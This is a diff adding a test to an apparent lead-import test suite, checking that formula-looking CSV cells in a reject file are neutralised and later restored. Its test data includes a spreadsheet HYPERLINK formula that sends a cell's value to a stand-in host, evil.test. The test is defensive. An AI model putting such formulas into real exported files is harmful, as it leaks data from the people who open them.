@@ -341,6 +341,21 @@ describe.each(testBackends())('importLeads on %s', (backend) => {
     expect(readFileSync(rej2, 'utf8')).toBe('email,first_name,line,reason,message,raw\r\n');
   });
 
+  it('neutralises formula-looking cells in the reject file (CSV injection), and a corrected file imports them as they were', async () => {
+    const ws = await workspace();
+    const rej = join(dir, 'formula1.csv');
+    const hostile = ['=HYPERLINK("http://evil.test/?"&A1)', '+1 555 0100', '-2+3', '@SUM(A1)'];
+    await run(ws, bytes(`email,first_name\n${hostile.map((h, i) => `fix-me-${i},"${h.replace(/"/g, '""')}"`).join('\n')}\n`), { rejectFile: rej });
+    const rows = rejectFile(rej);
+    expect(rows.map((r) => r.first_name)).toEqual(hostile.map((h) => `'${h}`));
+    // Every cell of the file, the message and raw columns included, starts harmlessly.
+    for (const r of rows) for (const v of Object.values(r)) expect(v).not.toMatch(/^[=+\-@]/);
+    writeFileSync(rej, readFileSync(rej, 'utf8').replace(/fix-me-(\d)/g, 'fixed$1@example.com'));
+    const r = await run(ws, rej);
+    expect(r).toMatchObject({ imported: 4, rejected: 0 });
+    expect((await leads(ws)).map((l) => l.first_name)).toEqual(hostile);
+  });
+
   it('answers input it cannot use with INVALID_INPUT and a clear message, writing nothing', async () => {
     const ws = await workspace();
     const empty = join(dir, 'empty.csv');
